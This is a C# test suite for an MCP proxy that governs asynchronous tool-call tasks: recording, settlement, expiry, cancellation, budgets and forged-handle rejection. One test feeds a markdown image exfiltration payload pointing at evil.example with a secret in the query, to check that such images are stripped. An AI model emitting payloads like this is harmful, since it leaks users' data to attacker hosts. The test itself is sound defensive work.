using System.Text.Json;
using Harness.Mcp.Core.Chains;
using Harness.Mcp.Core.Json;
using Harness.Mcp.Core.Missions;
using Harness.Mcp.Core.Tasks;
using Harness.Mcp.Core.Tools;
using Harness.Mcp.Proxy.Backends;
using Harness.Mcp.Proxy.Backends.Large;
using Harness.Mcp.Proxy.Backends.Tasks;
using Harness.Mcp.Proxy.Enforcement;
using Harness.Mcp.Proxy.Enforcement.Asking;
using Harness.Mcp.Proxy.Enforcement.Tasks;
using Harness.Mcp.TestKit.Backends;
using Xunit;
using static Harness.Mcp.Proxy.Tests.Enforcement.Tasks.ScriptedTask;

namespace Harness.Mcp.Proxy.Tests.Enforcement.Tasks;

/// <summary>Calls that their backend answers later, through the real enforcement: one link for the call, whatever way its answer takes, and none that leaves before it.</summary>
public class MissionTaskTests
{
    private const string Mission = EnforcementWorld.TwoWrites;

    [Fact]
    public async Task Result_SettlesTheLinkOfTheCall()
    {
        var (world, task) = await StartAsync(Mission);
        var handle = await task.OpenAsync();
        Assert.Equal(["CallAdmitted", "TaskOpened"], await task.KindsAsync());
        Assert.Equal("working", Status(await task.GetAsync(handle)));

        task.Completes("Written.");
        var answer = await task.GetAsync(handle);

        Assert.Equal("completed Written.", $"{Status(answer)} {Text(answer)}");
        Assert.Equal("complete", Shown(answer).GetProperty("result").GetProperty("resultType").GetString());
        Assert.Equal(["CallAdmitted", "TaskOpened", "CallSettled"], await task.KindsAsync());
        var settled = await task.SettledAsync();
        Assert.Equal((CallOutcome.Ok, world.Backend.Calls.Single().Call.Call), (settled.Outcome, settled.Call));
        Assert.Contains("Written.", settled.Result!.Value.GetRawText(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Agent_NeverSeesTheBackendsOwnId()
    {
        var (world, task) = await StartAsync(Mission);
        var created = Assert.IsType<CallAnswer.Task>(await task.CallAsync("notes_write")).Value;
        var shown = Shown(await task.GetAsync(created.GetProperty("taskId").GetString()!));

        Assert.All([created, shown], json => Assert.DoesNotContain(Id, json.GetRawText(), StringComparison.Ordinal));
        Assert.Equal(created.GetProperty("taskId").GetString(), shown.GetProperty("taskId").GetString());
        Assert.Equal(("2026-11-24T12:00:00.000Z", 600_000, 5_000), (shown.GetProperty("createdAt").GetString(), shown.GetProperty("ttlMs").GetInt64(), shown.GetProperty("pollIntervalMs").GetInt64()));
        Assert.All(world.Backend.TaskRequests, one => Assert.Equal(Id, one.Request.Task));
    }

    [Fact]
    public async Task Backend_IsNotToldOfTasks_WhereTheAgentDoesNotDeclareThem()
    {
        var (world, task) = await StartAsync(Mission);

        Assert.Equal("at once", EnforcementWorld.TextOf(await task.CallAsync("notes_write", takesTask: false)));

        Assert.False(world.Backend.Calls.Single().Call.TakesTask);
    }

    [Fact]
    public async Task Budget_CountsACallWithATask_Once()
    {
        var (_, task) = await StartAsync(Mission);
        var handle = await task.OpenAsync();
        task.Completes("done");
        await task.GetAsync(handle);
        task.Works();
        task.Report = task.Report with { Outcome = null };

        await task.OpenAsync(text: "second");

        Assert.Equal("budget_exhausted", EnforcementWorld.ReasonOf(await task.CallAsync("notes_write", "third")));
    }

    [Fact]
    public async Task Polls_LeaveNoLink_UnlessTheySaySomethingNew()
    {
        var (_, task) = await StartAsync(Mission);
        var handle = await task.OpenAsync();
        for (var poll = 0; poll < 20; poll++)
            await task.GetAsync(handle);
        Assert.Equal(["CallAdmitted", "TaskOpened"], await task.KindsAsync());

        task.Says("Half done.");
        for (var poll = 0; poll < 5; poll++)
            Assert.Equal("Half done.", Shown(await task.GetAsync(handle)).GetProperty("statusMessage").GetString());

        Assert.Equal(["CallAdmitted", "TaskOpened", "TaskReported"], await task.KindsAsync());
    }

    [Fact]
    public async Task Messages_AreShown_AsFarAsTheyAreRecorded()
    {
        var (world, task) = await StartAsync(Mission);
        var handle = await task.OpenAsync();
        for (var step = 0; step < OpenTask.ReportsMax + 3; step++)
        {
            task.Says($"Step {step}.");
            Assert.Equal(step < OpenTask.ReportsMax, Shown(await task.GetAsync(handle)).TryGetProperty("statusMessage", out _));
        }

        Assert.Equal(OpenTask.ReportsMax, (await world.ChainAsync()).Count(link => link.Body is LinkBody.TaskReported));
    }

    [Fact]
    public async Task ToolThatFails_EndsItsTask_AsAResult()
    {
        var (_, task) = await StartAsync(Mission);
        var handle = await task.OpenAsync();

        task.Completes("No such note.", isError: true);
        var shown = Shown(await task.GetAsync(handle));

        Assert.Equal(("completed", true), (shown.GetProperty("status").GetString(), shown.GetProperty("result").GetProperty("isError").GetBoolean()));
        Assert.Equal(CallOutcome.Error, (await task.SettledAsync()).Outcome);
    }

    [Fact]
    public async Task TaskThatFails_SettlesItsCall_AsAnError()
    {
        var (_, task) = await StartAsync(Mission);
        var handle = await task.OpenAsync();

        task.Fails("""{"code":-32601,"message":"It broke.","data":{"at":3}}""");
        var shown = Shown(await task.GetAsync(handle));

        // The code would say something false of this proxy; the rest is the backend's.
        Assert.Equal("""failed {"code":-32603,"message":"It broke.","data":{"at":3}}""", $"{shown.GetProperty("status").GetString()} {shown.GetProperty("error").GetRawText()}");
        Assert.False(shown.TryGetProperty("result", out _));
        Assert.Equal(CallOutcome.Error, (await task.SettledAsync()).Outcome);
    }

    [Fact]
    public async Task TaskThatIsCancelledByItsBackend_LeavesTheOutcomeUnknown()
    {
        var (_, task) = await StartAsync(Mission);
        var handle = await task.OpenAsync();

        task.Report = task.Report with { State = TaskState.Cancelled };

        Assert.Equal("cancelled", Status(await task.GetAsync(handle)));
        Assert.Equal("cancelled", Status(await task.GetAsync(handle)));
        Assert.Equal(CallOutcome.Unknown, (await task.SettledAsync()).Outcome);
    }

    [Fact]
    public async Task TaskThatItsBackendForgot_LeavesTheOutcomeUnknown_AndTheModelIsTold()
    {
        var (_, task) = await StartAsync(Mission);
        var handle = await task.OpenAsync();

        task.Instead = _ => new TaskReply.Gone();
        var shown = Shown(await task.GetAsync(handle));

        Assert.Equal(("completed", "outcome_unknown"), (shown.GetProperty("status").GetString(), shown.GetProperty("result").GetProperty("structuredContent").GetProperty("reason").GetString()));
        Assert.Equal(CallOutcome.Unknown, (await task.SettledAsync()).Outcome);
    }

    [Fact]
    public async Task BackendThatCannotBeAsked_ChangesNothing()
    {
        var (_, task) = await StartAsync(Mission);
        var handle = await task.OpenAsync();

        task.Instead = _ => new TaskReply.None("no connection");
        Assert.Equal("1005 backend_unavailable", Refusal(await task.GetAsync(handle)));
        task.Instead = _ => new TaskReply.Reported(task.Report with { Task = "another" });
        Assert.Equal("1005 backend_unavailable", Refusal(await task.GetAsync(handle)));

        task.Instead = _ => null;
        Assert.Equal("working", Status(await task.GetAsync(handle)));
        Assert.Equal(["CallAdmitted", "TaskOpened"], await task.KindsAsync());
    }

    [Fact]
    public async Task ResultThatCannotBeAccepted_IsNotShown()
    {
        var (_, task) = await StartAsync(Mission);
        var handle = await task.OpenAsync();

        task.Report = task.Report with { State = TaskState.Completed, Outcome = new BackendReply.InputRequired(null, "state") };
        var shown = Shown(await task.GetAsync(handle));

        Assert.Equal("result_refused", shown.GetProperty("result").GetProperty("structuredContent").GetProperty("reason").GetString());
        Assert.Equal(CallOutcome.Unknown, (await task.SettledAsync()).Outcome);
    }

    [Fact]
    public async Task AnswerThatIsTooLarge_IsNotShown()
    {
        var (_, task) = await StartAsync(Mission);
        var handle = await task.OpenAsync();

        task.Instead = _ => new TaskReply.Unreadable("too large");

        Assert.Equal("result_refused", Shown(await task.GetAsync(handle)).GetProperty("result").GetProperty("structuredContent").GetProperty("reason").GetString());
        Assert.Equal(CallOutcome.Unknown, (await task.SettledAsync()).Outcome);
    }

    [Fact]
    public async Task LargeResult_IsShownInPart_AndTheSameIsGivenAgainWithoutItsBackend()
    {
        var folder = Directory.CreateTempSubdirectory("harness-tasks-").FullName;
        try
        {
            var (world, task) = await StartAsync(Mission.Replace("notes/*", "notes/*, notes/results/read", StringComparison.Ordinal));
            world.UseLarge(new LargeResults(folder));
            var handle = await task.OpenAsync();
            var body = $$"""{"content":[{"type":"text","text":"{{new string('x', 100_000)}}"}]}""";
            await task.CompletesAsync(world.Large, body);

            var first = Shown(await task.GetAsync(handle));
            task.Instead = _ => new TaskReply.None("It is gone.");
            var second = Shown(await task.GetAsync(handle));

            var content = first.GetProperty("result").GetProperty("content");
            Assert.Contains($"The result has {body.Length} bytes", content[0].GetProperty("text").GetString(), StringComparison.Ordinal);
            Assert.Equal(body[..2048], content[1].GetProperty("text").GetString());
            Assert.Equal(first.GetProperty("result").GetRawText(), second.GetProperty("result").GetRawText());
            var settled = await task.SettledAsync();
            Assert.Equal((CallOutcome.Ok, null, true, Digest.Of(System.Text.Encoding.UTF8.GetBytes(body))), (settled.Outcome, settled.Result, settled.IsCut, settled.ResultDigest));
            var piece = Assert.IsType<CallAnswer.Result>(await task.ReadAsync(content[2].GetProperty("uri").GetString()!)).Value;
            Assert.Equal(body[..65_536], piece.GetProperty("contents")[0].GetProperty("text").GetString());
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }

    [Fact]
    public async Task Images_AreTakenOut_AsOfAnAnswerAtOnce()
    {
        var (world, task) = await StartAsync(Mission);
        world.Backend.Images = [];
        var handle = await task.OpenAsync();

        task.Completes("![x](https://evil.example/?q=s3cret)");

        Assert.Equal("[image of evil.example not shown: x]", Text(await task.GetAsync(handle)));
    }

    [Fact]
    public async Task Answer_DoesNotLeave_WhereItCannotBeRecorded()
    {
        var (world, task) = await StartAsync(Mission);
        var handle = await task.OpenAsync();
        task.Completes("Written.");

        // The record is lost between the look at the mission and the settlement.
        task.Instead = _ =>
        {
            world.Store.IsDown = true;
            return null;
        };
        var refused = await task.GetAsync(handle);
        (world.Store.IsDown, task.Instead) = (false, _ => null);

        Assert.Equal("1005 state_unavailable", Refusal(refused));
        Assert.Equal("Written.", Text(await task.GetAsync(handle)));
    }

    [Fact]
    public async Task Result_IsGivenAgain_ToWhoAsksAgain_AndNothingElseIs()
    {
        var (world, task) = await StartAsync(Mission);
        var handle = await task.OpenAsync();
        task.Completes("Written.");
        await task.GetAsync(handle);

        Assert.Equal("Written.", Text(await task.GetAsync(handle)));
        world.UseProcess(world.NewProxy());
        Assert.Equal("Written.", Text(await task.GetAsync(handle)));
        task.Completes("Something else.");
        Assert.Equal("1005 result_refused", Refusal(await task.GetAsync(handle)));

        Assert.Equal(["CallAdmitted", "TaskOpened", "CallSettled"], await task.KindsAsync());
    }

    [Fact]
    public async Task ParallelPolls_SettleOnce_AndAllGetTheResult()
    {
        var (_, task) = await StartAsync(Mission);
        var handle = await task.OpenAsync();
        task.Completes("Written.");

        var all = await Task.WhenAll(Enumerable.Range(0, 8).Select(_ => task.GetAsync(handle)));

        Assert.All(all, answer => Assert.Equal("Written.", Text(answer)));
        Assert.Equal(["CallAdmitted", "TaskOpened", "CallSettled"], await task.KindsAsync());
    }

    [Theory]
    [InlineData("agent")]
    [InlineData("mission")]
    [InlineData("bit")]
    [InlineData("backend's own")]
    [InlineData("requestState")]
    public async Task HandleOfAnother_IsAForgery(string other)
    {
        var (world, task) = await StartAsync(Mission);
        var handle = await task.OpenAsync();
        var state = new RequestState(EnforcementWorld.Mission, EnforcementWorld.Agent.Id, new ToolId(new BackendId("notes"), "write"), Digest.Zero, default, 1, DateTimeOffset.MaxValue, Id);
        var asked = new AgentTask(
            other == "agent" ? EnforcementWorld.Agent with { Id = new AgentId("other") } : EnforcementWorld.Agent,
            EnforcementWorld.Mission,
            other switch
            {
                "bit" => handle[..^1] + (handle[^1] == 'A' ? 'B' : 'A'),
                "backend's own" => Id,
                "requestState" => world.Seal.Seal(state)!,
                "mission" => world.TaskSeal.Seal(world.TaskSeal.Open(handle)! with { Mission = new MissionId("tidy-bbbbbbbbbb") })!,
                _ => handle,
            },
            Core.Asks.AgentInputs.None);

        foreach (var answer in new[]
        {
            await world.Tasks.GetAsync(asked, CancellationToken.None), await world.Tasks.UpdateAsync(asked, JsonElement.Parse("{}"), CancellationToken.None),
            await world.Tasks.CancelAsync(asked, CancellationToken.None),
        })
            Assert.Equal("-32602 task_invalid", Refusal(answer));

        Assert.Empty(world.Backend.TaskRequests);
        Assert.Equal(["tasks/get", "tasks/update", "tasks/cancel"], (await world.ChainAsync()).Select(link => link.Body).OfType<LinkBody.CallRefused>().Select(refused => refused.AskedFor));
        Assert.Equal("working", Status(await task.GetAsync(handle)));
    }

    [Fact]
    public async Task Restart_LeavesATaskOpen_WithinItsTime()
    {
        var (world, task) = await StartAsync(Mission);
        var handle = await task.OpenAsync();

        world.UseProcess(world.NewProxy());
        await task.CallAsync("notes_read", takesTask: false);
        await world.TaskKeeper.KeepAsync();
        Assert.Equal(["CallAdmitted", "TaskOpened", "CallAdmitted", "CallSettled"], await task.KindsAsync());
        Assert.Equal(0, task.Requests(TaskErrand.Cancel));

        task.Completes("Written.");
        Assert.Equal("Written.", Text(await task.GetAsync(handle)));
    }

    [Fact]
    public async Task Task_Expires_AndItsBackendIsTold()
    {
        var time = new ManualTime();
        var (world, task) = await StartAsync(Mission, time);
        var handle = await task.OpenAsync();

        await time.AdvanceAsync(TimeSpan.FromMinutes(9), () => Task.CompletedTask);
        await world.TaskKeeper.KeepAsync();
        Assert.Equal("working", Status(await task.GetAsync(handle)));
        await time.AdvanceAsync(TimeSpan.FromSeconds(70), () => Task.CompletedTask);
        Assert.Equal("-32602 task_expired", Refusal(await task.GetAsync(handle)));

        Assert.Equal(1, task.Requests(TaskErrand.Cancel));
        Assert.Equal(CallOutcome.Unknown, (await task.SettledAsync()).Outcome);
    }

    [Fact]
    public async Task Task_Expires_ThoughNobodyAsks()
    {
        var time = new ManualTime();
        var (world, task) = await StartAsync(Mission, time);
        await task.OpenAsync();

        await time.AdvanceAsync(TimeSpan.FromMinutes(10), () => Task.CompletedTask);
        await world.TaskKeeper.KeepAsync();

        Assert.Equal(1, task.Requests(TaskErrand.Cancel));
        Assert.Equal("The task's time was over before it ended.", (await task.SettledAsync()).Error);
    }

    [Fact]
    public async Task Task_LivesLonger_WhereItsBackendSaysSo_ButNotLongerThanIsSet()
    {
        var time = new ManualTime();
        var (world, task) = await StartAsync(Mission.Replace("lifetime: 1h", "lifetime: 9h", StringComparison.Ordinal), time);
        world.Options.TaskLifetimeMax = TimeSpan.FromHours(2);
        var handle = await task.OpenAsync();

        task.Report = task.Report with { Lifetime = null };
        Assert.Equal(TimeSpan.FromHours(2).TotalMilliseconds, Shown(await task.GetAsync(handle)).GetProperty("ttlMs").GetInt64());
        await time.AdvanceAsync(TimeSpan.FromMinutes(100), () => Task.CompletedTask);
        await world.TaskKeeper.KeepAsync();
        Assert.Equal("working", Status(await task.GetAsync(handle)));

        await time.AdvanceAsync(TimeSpan.FromMinutes(21), () => Task.CompletedTask);
        await world.TaskKeeper.KeepAsync();
        Assert.Equal("cancelled", Status(await task.GetAsync(handle)));
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task StoppedMission_BringsNothingNew_AndItsTasksAreCancelled(bool isRevoked)
    {
        var (world, task) = await StartAsync(Mission);
        var handle = await task.OpenAsync();
        task.Completes("Written.");

        await world.AppendAsync(isRevoked ? new LinkBody.MissionRevoked("owner", "") : new LinkBody.MissionSuspended("owner", ""));

        Assert.Equal(isRevoked ? "1005 mission_ended" : "1005 mission_suspended", Refusal(await task.GetAsync(handle)));
        Assert.Equal(0, task.Requests(TaskErrand.Get));
        await world.TaskKeeper.KeepAsync();
        Assert.Equal(1, task.Requests(TaskErrand.Cancel));
        var settled = await task.SettledAsync();
        Assert.Equal((CallOutcome.Unknown, "Its mission was stopped, so the task was cancelled."), (settled.Outcome, settled.Error));
    }

    [Fact]
    public async Task ResultThatComesWithTheStop_IsNotShown()
    {
        var (world, task) = await StartAsync(Mission);
        var handle = await task.OpenAsync();
        task.Completes("Written.");

        task.Instead = request =>
        {
            if (request.Errand == TaskErrand.Get)
                world.AppendAsync(new LinkBody.MissionSuspended("owner", "")).GetAwaiter().GetResult();
            return null;
        };

        Assert.Equal("1005 mission_suspended", Refusal(await task.GetAsync(handle)));
        Assert.DoesNotContain("CallSettled", await task.KindsAsync());
        await world.TaskKeeper.KeepAsync();
        Assert.Equal(CallOutcome.Unknown, (await task.SettledAsync()).Outcome);
    }

    [Fact]
    public async Task TaskThatComesAfterTheStop_IsCancelled_AndTheAgentIsTold()
    {
        var (world, task) = await StartAsync(Mission);
        world.Backend.Reply = async (_, _) =>
        {
            await world.AppendAsync(new LinkBody.MissionSuspended("owner", ""));
            return new BackendReply.Task(task.Report);
        };

        var answer = await task.CallAsync("notes_write");

        Assert.Equal("mission_suspended", EnforcementWorld.ReasonOf(answer));
        Assert.Equal(1, task.Requests(TaskErrand.Cancel));
        Assert.Equal(["CallAdmitted", "MissionSuspended", "CallSettled"], await task.KindsAsync());
    }

    [Fact]
    public async Task TaskThatCannotBeRecorded_IsCancelled_AndTheAgentIsTold()
    {
        var (world, task) = await StartAsync(Mission);
        world.Backend.Reply = (_, _) =>
        {
            world.Store.IsDown = true;
            return ValueTask.FromResult<BackendReply>(new BackendReply.Task(task.Report));
        };

        Assert.Equal("state_unavailable", EnforcementWorld.ReasonOf(await task.CallAsync("notes_write")));
        Assert.Equal(1, task.Requests(TaskErrand.Cancel));
    }

    [Fact]
    public async Task TaskThatReachedNobody_IsGivenUp()
    {
        var (world, task) = await StartAsync(Mission);
        var answer = await task.CallAsync("notes_write");

        world.Enforcer.Undelivered(answer);
        for (var tries = 0; !(await task.KindsAsync()).Contains("CallSettled") && tries < 500; tries++)
            await Task.Delay(10, TestContext.Current.CancellationToken);

        Assert.Equal(1, task.Requests(TaskErrand.Cancel));
        Assert.Equal(CallOutcome.Unknown, (await task.SettledAsync()).Outcome);
    }

    [Fact]
    public async Task Mission_HoldsSoManyTasks_AndNoMore()
    {
        var (world, task) = await StartAsync(Mission);
        world.Options.TasksOpenMax = 1;
        var handle = await task.OpenAsync();

        // One more is not offered: a tool that can do without answers at once, and one that cannot is told apart from a missing capability.
        Assert.Equal("at once", EnforcementWorld.TextOf(await task.CallAsync("notes_read")));
        world.Backend.Reply = (call, _) => ValueTask.FromResult<BackendReply>(call.TakesTask
            ? new BackendReply.Task(task.Report)
            : new BackendReply.Error(JsonElement.Parse("""{"code":-32021,"message":"no","data":{"requiredCapabilities":{"extensions":{"io.modelcontextprotocol/tasks":{}}}}}""")));
        Assert.Equal("overloaded", EnforcementWorld.ReasonOf(await task.CallAsync("notes_read")));

        await task.CancelAsync(handle);
        Assert.IsType<CallAnswer.Task>(await task.CallAsync("notes_read"));
    }

    [Fact]
    public async Task ParallelCalls_OpenNoMoreTasks_ThanAMissionMayHold()
    {
        var (world, task) = await StartAsync(Mission);
        world.Options.TasksOpenMax = 2;
        var all = new TaskCompletionSource();
        var arrived = 0;
        world.Backend.Reply = async (_, _) =>
        {
            if (Interlocked.Increment(ref arrived) == 5)
                all.SetResult();
            await all.Task;
            return new BackendReply.Task(task.Report);
        };

        var answers = await Task.WhenAll(Enumerable.Range(0, 5).Select(_ => task.CallAsync("notes_read")));

        Assert.Equal(2, answers.Count(answer => answer is CallAnswer.Task));
        Assert.Equal(3, answers.Count(answer => EnforcementWorld.ReasonOf(answer) == "overloaded"));
        Assert.Equal(3, task.Requests(TaskErrand.Cancel));
    }

    [Fact]
    public async Task Cancel_IsPassedOn_AndTheCallGivenUp()
    {
        var (_, task) = await StartAsync(Mission);
        var handle = await task.OpenAsync();

        Assert.IsType<TaskAnswer.Noted>(await task.CancelAsync(handle));
        Assert.IsType<TaskAnswer.Noted>(await task.CancelAsync(handle)); // Twice is no mistake.

        Assert.Equal(1, task.Requests(TaskErrand.Cancel));
        Assert.Equal(CallOutcome.Unknown, (await task.SettledAsync()).Outcome);
        Assert.Equal("cancelled", Status(await task.GetAsync(handle)));
    }

    [Fact]
    public async Task Cancel_ThatComesTooLate_LeavesTheResult()
    {
        var (_, task) = await StartAsync(Mission);
        var handle = await task.OpenAsync();
        task.Completes("Written.");

        Assert.IsType<TaskAnswer.Noted>(await task.CancelAsync(handle));

        Assert.Equal(CallOutcome.Ok, (await task.SettledAsync()).Outcome);
        Assert.Equal("Written.", Text(await task.GetAsync(handle)));
    }

    [Fact]
    public async Task Cancel_ThatDoesNotReachTheBackend_ChangesNothing()
    {
        var (_, task) = await StartAsync(Mission);
        var handle = await task.OpenAsync();
        task.Instead = _ => new TaskReply.None("no connection");

        Assert.Equal("1005 backend_unavailable", Refusal(await task.CancelAsync(handle)));

        Assert.Equal(["CallAdmitted", "TaskOpened"], await task.KindsAsync());
    }
}
